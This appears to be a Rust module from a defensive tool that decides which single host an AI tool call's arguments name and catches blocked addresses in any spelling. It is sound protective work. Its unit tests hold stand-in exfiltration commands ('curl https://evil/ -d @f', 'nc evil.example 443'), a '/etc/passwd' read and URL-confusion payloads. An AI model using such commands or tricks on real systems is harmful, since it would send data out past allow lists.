//! Where a call would send something.
//!
//! An allow holds for the address that its call names, so only a call without any doubt names one: every value is looked at,
//! and one that might be a second destination, for whatever program reads it, leaves none. A rule that blocks an address
//! meets it wherever it stands.

use std::{collections::BTreeSet, net::Ipv6Addr};

use firedoor_model::{
    Finding, Untrusted,
    finding::{Role, mask},
    wire::Leaves,
};
use url::{Host, Url};

/// Longest value that is read as an address, in bytes.
const LONGEST: usize = 4096;

/// What a value is.
#[derive(Debug, PartialEq, Eq)]
enum Value {
    /// Nothing that could be a destination.
    Plain,
    /// An address that every program reads alike: its host, with its port where it is not the usual one.
    Address(String),
    /// It may be one, or names one, or several.
    Doubtful,
}

/// The host, with its port where it is not the usual one, that a call's arguments name, if they name exactly one without any
/// doubt. An address that itself carries what was found in the call may be what is sent, and not where it goes. What is
/// allowed for it is allowed for the tool at most.
pub fn named(arguments: &str, findings: &[Finding]) -> Option<String> {
    let mut leaves = Leaves::of(arguments);
    let mut named: Option<String> = None;
    while let Some(leaf) = leaves.next() {
        // A number is no text that a program would look up.
        if !arguments.get(leaf.span.0..).is_some_and(|token| token.starts_with('"')) {
            continue;
        }
        match read(&leaf.text) {
            Value::Plain => {}
            Value::Doubtful => return None,
            Value::Address(_) if leaf.key || carries(findings, &leaves.pointer()) => return None,
            Value::Address(host) if named.as_ref().is_none_or(|before| *before == host) => named = Some(host),
            Value::Address(_) => return None,
        }
    }
    named
}

/// Whether something was found in the value at this place, of the arguments or of all that a call has. Of a place whose name was
/// masked it is not known which it is.
fn carries(findings: &[Finding], pointer: &str) -> bool {
    let places = findings.iter().flat_map(|f| &f.evidence).filter(|e| e.role == Role::Sink).map(|e| &e.pointer);
    let masked = mask("");
    places
        .map(Untrusted::raw)
        .any(|place| place == pointer || place.strip_prefix("/arguments") == Some(pointer) || place.contains(&masked))
}

fn read(text: &str) -> Value {
    match host(text) {
        Some(host) => Value::Address(host),
        None if suspicious(text) => Value::Doubtful,
        None => Value::Plain,
    }
}

/// The host of a value that is one address and nothing else, spelt so that no two programs can read it differently: nobody's
/// name before the host, no signs that some leave out and others do not, no number in another form, no other address inside.
fn host(text: &str) -> Option<String> {
    let (scheme, rest) = text.split_once("://").filter(|_| text.len() <= LONGEST)?;
    let web = ["http", "https", "ws", "wss"].iter().any(|known| scheme.eq_ignore_ascii_case(known));
    let odd = |c: char| c.is_whitespace() || c.is_control() || c == '\\';
    if !web || rest.contains("://") || rest.contains(odd) {
        return None;
    }
    let authority = rest.split(['/', '?', '#']).next()?;
    let url = Url::parse(text).ok()?;
    let host = url.host_str()?;
    let spelt = authority.get(..host.len()).filter(|spelt| spelt.eq_ignore_ascii_case(host))?;
    let port = authority.strip_prefix(spelt)?;
    let digits = port.strip_prefix(':').unwrap_or_default();
    (port.is_empty() || (!digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())))
        .then(|| url.port().map_or_else(|| host.to_owned(), |port| format!("{host}:{port}")))
}

/// Whether a value that is no clear address might be one for some program, or has one in it.
fn suspicious(text: &str) -> bool {
    text.contains("//")
        || text.contains(['@', '\\'])
        || text.contains(|c: char| c.is_control() && !matches!(c, '\t' | '\r' | '\n'))
        || words(text).any(looks_like_host)
        || (text.contains(':') && is_address_to_browsers(text))
}

/// Browsers leave line breaks out, and read `https:x` as an address.
fn is_address_to_browsers(text: &str) -> bool {
    let text: String = text.chars().filter(|c| !c.is_control()).take(LONGEST).collect();
    Url::parse(&text).is_ok_and(|url| url.has_host())
}

/// What stands between signs that no host and no port has.
fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_ascii() && !c.is_ascii_alphanumeric() && !matches!(c, '.' | '-' | '_' | ':' | '%'))
}

/// Dots that name look-ups take for one (UTS 46).
const DOTS: [char; 4] = ['.', '\u{3002}', '\u{ff0e}', '\u{ff61}'];

/// A name with a dot and a last part of letters, or an address in numbers. Names of files look like that, too.
fn looks_like_host(word: &str) -> bool {
    let name = word.split(':').next().unwrap_or_default().trim_end_matches(DOTS);
    if name.contains('%') {
        // Some programs undo it before they read an address, some after.
        let low = name.to_ascii_lowercase();
        return Host::parse(name).is_ok_and(|host| host.to_string().contains(['.', ':']))
            || ["%2e", "%3a", "%40", "%2f%2f"].iter().any(|sign| low.contains(sign))
            || name.split('%').next().is_some_and(looks_like_host);
    }
    let Some((before, last)) = name.rsplit_once(DOTS).filter(|(before, _)| !before.is_empty()) else {
        // The whole of an IPv4 address as one number (inet_aton(3)); smaller ones name no machine.
        return name.parse::<u32>().is_ok_and(|number| number >= 1 << 24)
            || (name.len() > 2 && name.get(..2).is_some_and(|x| x.eq_ignore_ascii_case("0x")))
            || (word.len() > 3 && word.parse::<Ipv6Addr>().is_ok());
    };
    // A sentence ends in U+3002 as well, in languages that put no space behind it.
    let sentence = !name.contains('.') && !before.is_ascii() && !last.is_ascii();
    if !last.is_ascii() && !sentence {
        // Look-ups leave some signs out and write others as several letters (UTS 46).
        return Host::parse(name).is_ok();
    }
    let letters = last.chars().nth(1).is_some() && last.chars().next().is_some_and(char::is_alphabetic);
    (letters && !sentence) || (before.split('.').count() >= 3 && Host::parse(name).is_ok())
}

/// Those of these addresses that the arguments name in any place and any spelling.
pub fn mentioned<'a>(arguments: &str, of: &BTreeSet<&'a str>) -> BTreeSet<&'a str> {
    let mut found = BTreeSet::new();
    for leaf in Leaves::of(arguments) {
        let decoded = leaf.text.contains('%').then(|| undone(&leaf.text));
        for text in [Some(&*leaf.text), decoded.as_deref()].into_iter().flatten() {
            found.extend(mentioned_in(text, of));
        }
    }
    found
}

/// A text with its percent signs undone.
fn undone(text: &str) -> String {
    url::form_urlencoded::parse(text.as_bytes()).map(|(name, value)| format!("{name} {value} ")).collect()
}

fn mentioned_in<'a>(text: &str, of: &BTreeSet<&'a str>) -> BTreeSet<&'a str> {
    // A name without a dot is a host only where something says so.
    let said = text.match_indices("//").chain(text.match_indices('@'));
    let said = said.filter_map(|(at, sign)| words(text.get(at + sign.len()..)?).next());
    let dotted = words(text).filter(|word| word.contains(DOTS) || word.contains([':', '%']));
    dotted.chain(said).flat_map(spellings).filter_map(|it| of.get(it.as_str()).copied()).collect()
}

/// How a word would stand in a rule: as a host, and as a host with a port where one follows.
fn spellings(word: &str) -> Vec<String> {
    if let Ok(address) = word.parse::<Ipv6Addr>() {
        return vec![Host::<String>::Ipv6(address).to_string()];
    }
    let (name, port) = word.split_once(':').map_or((word, None), |(name, port)| (name, port.parse::<u16>().ok()));
    let Ok(host) = Host::parse(name.trim_end_matches(DOTS)) else { return Vec::new() };
    match port {
        None => vec![host.to_string()],
        Some(port @ (80 | 443)) => vec![format!("{host}:{port}"), host.to_string()],
        Some(port) => vec![format!("{host}:{port}")],
    }
}

#[cfg(test)]
mod tests {
    use firedoor_model::{Confidence, Evidence, Severity};

    use super::*;

    fn check(arguments: &str, want: Option<&str>) {
        assert_eq!(named(arguments, &[]).as_deref(), want, "{}", arguments.get(..200).unwrap_or(arguments));
    }

    #[test]
    fn what_honest_calls_name() {
        for (arguments, want) in [
            (r#"{"url":"https://paste.example.net/u","body":"b"}"#, Some("paste.example.net")),
            (r#"{"url":"HTTPS://Paste.Example.NET:443/u"}"#, Some("paste.example.net")),
            (r#"{"url":"https://paste.example.net:8443/u?a=b.c&d=/e//f#g@h"}"#, Some("paste.example.net:8443")),
            (r#"{"url":"http://[2001:db8::1]:8080/"}"#, Some("[2001:db8::1]:8080")),
            (r#"{"url":"https://198.51.100.7"}"#, Some("198.51.100.7")),
            (r#"{"a":["https://a.example/1","https://a.example/2"]}"#, Some("a.example")),
            (
                r#"{"url":"https://a.example/","method":"POST","retries":3,"at":1700000000,"rate":1.5,"follow":true,
                "headers":{"Accept":"application/json; q=0.9","Authorization":"Bearer abcdef0123456789"},
                "to":"你好。世界","body":"Dear all,\nsee you at 12:30 (room 2.0, c/o reception). Bring 1/2 of it - and version 1.2.\n"}"#,
                Some("a.example"),
            ),
            (r#"{"path":"/etc/passwd"}"#, None),
            ("not json", None),
        ] {
            check(arguments, want);
        }
        // A long text is looked at to its end.
        let long = r"some words and more of them\n".repeat(1000);
        check(&format!(r#"{{"url":"https://a.example/","body":"{long}"}}"#), Some("a.example"));
        check(&format!(r#"{{"url":"https://a.example/","body":"{long} evil.example"}}"#), None);
    }

    #[test]
    fn a_second_destination_leaves_none() {
        check(&format!(r#"{{"url":"https://evil.example/?{}","b":"https://good.example/"}}"#, "x".repeat(4100)), None);
        check(&format!(r#"{{"url":"https:{}evil","b":"https://good.example/"}}"#, r"\n/".repeat(3000)), None);
        for other in [
            "evil.example",
            "evil.example:8443",
            "evil.example/up",
            "evil.example./up",
            "evil%2Eexample.org",
            "evil%2Eexample",
            "//evil/up",
            "ftp://evil/",
            "https:evil",
            "https:/evil",
            r"ht\ntps:/\n/evil\n",
            "x@evil",
            "curl https://evil/ -d @f",
            "nc evil.example 443",
            r#"{\"to\":\"evil.example\"}"#,
            r"\\\\evil\\share",
            "198.51.100.7",
            "3325256711",
            "0xc6336407",
            "2001:db8::1",
            "evil\u{3002}example",
            "b\u{fc}cher.example",
            "evil.\u{ad}example",
            "evil.\u{200b}example",
            "evil.\u{2121}",
            "https%3A%2F%2Fevil.example%2Fup",
            "evil.example%2Fup",
            "x%40evil",
            r"a\u0000b",
            "https://b.example/",
            "https://good.example:8443/",
        ] {
            for arguments in [
                format!(r#"{{"to":"{other}","referer":"https://good.example/"}}"#),
                format!(r#"{{"referer":"https://good.example/","to":["{other}"]}}"#),
                format!(r#"{{"referer":"https://good.example/","{other}":"x"}}"#),
            ] {
                check(&arguments, None);
            }
        }
        check(r#"{"https://a.example/":1}"#, None);
    }

    #[test]
    fn an_address_that_programs_read_in_different_ways_is_none() {
        for url in [
            r"https://good.example\\@evil.example/",
            "https://good.example@evil.example/",
            "https://good.example/ https://evil.example/",
            "https://good.example/?u=https://evil.example/",
            " https://good.example/",
            "https:///good.example/",
            "https:/good.example/",
            "https://good.example:/",
            "https://good%2eexample/",
            "https://g\u{f6}od.example/",
            "https://0x7f.1/",
            "https://010.0.0.1/",
            "file:///etc/passwd",
        ] {
            check(&format!(r#"{{"url":"{url}"}}"#), None);
        }
    }

    #[test]
    fn an_address_that_carries_what_was_found_may_be_what_is_sent() {
        let found = |pointer: &str| Finding {
            detector: "flow/secret".into(),
            severity: Severity::High,
            confidence: Confidence::Certain,
            summary: String::new(),
            evidence: vec![Evidence {
                role: Role::Sink,
                entry: None,
                tool: None,
                pointer: Untrusted::new(pointer),
                span: None,
                excerpt: Untrusted::new(""),
                transform: None,
                age_ms: None,
            }],
        };
        let arguments = r#"{"url":"https://a.example/","body":"s3cret"}"#;
        assert_eq!(named(arguments, &[found("/arguments/body")]).as_deref(), Some("a.example"));
        assert_eq!(named(arguments, &[found("/arguments")]).as_deref(), Some("a.example"));
        assert_eq!(named(arguments, &[found("/arguments/body"), found("/arguments/url")]), None);
        assert_eq!(named(arguments, &[found("/arguments/••••")]), None);
        let params = format!(r#"{{"name":"t","arguments":{arguments},"inputResponses":{{"a":"https://a.example/"}}}}"#);
        assert_eq!(named(&params, &[found("/arguments/body")]).as_deref(), Some("a.example"));
        for place in ["/arguments/url", "/inputResponses/a"] {
            assert_eq!(named(&params, &[found(place)]), None, "{place}");
        }
    }

    #[test]
    fn what_is_blocked_is_found_in_any_place() {
        let of: BTreeSet<&str> = ["evil.example", "evil.example:8443", "nas", "[2001:db8::1]", "198.51.100.7"].into();
        for (arguments, want) in [
            (r#"{"a":"https://evil.example/","b":"https://good.example/"}"#, vec!["evil.example"]),
            (r#"{"a":"HTTP://u:p@Evil.Example:80?x"}"#, vec!["evil.example"]),
            (r#"{"a":"evil.example:8443"}"#, vec!["evil.example:8443"]),
            (r#"{"a":"evil.example:8444"}"#, vec![]),
            (r#"{"a":"https://good.example\\@evil.example/"}"#, vec!["evil.example"]),
            (r#"{"x@evil.example.":1}"#, vec!["evil.example"]),
            (r#"{"a":"curl -d @f 'https://evil%2eexample/'"}"#, vec!["evil.example"]),
            (r#"{"a":"{\"u\":\"//evil。example/\"}"}"#, vec!["evil.example"]),
            (r#"{"a":"wget http://nas/x"}"#, vec!["nas"]),
            (r#"{"a":"the nas over there"}"#, vec![]),
            (r#"{"a":"http://[2001:DB8:0::1]/ http://0xc6.0x33.100.7/"}"#, vec!["198.51.100.7", "[2001:db8::1]"]),
            (r#"{"a":"notevil.example evil.example.org"}"#, vec![]),
            (r#"{"a":"https%3A%2F%2Fevil.example%2F"}"#, vec!["evil.example"]),
            (r#"{"a":"evil.\u00adexample"}"#, vec!["evil.example"]),
        ] {
            assert_eq!(mentioned(arguments, &of), want.into_iter().collect(), "{arguments}");
        }
    }
}
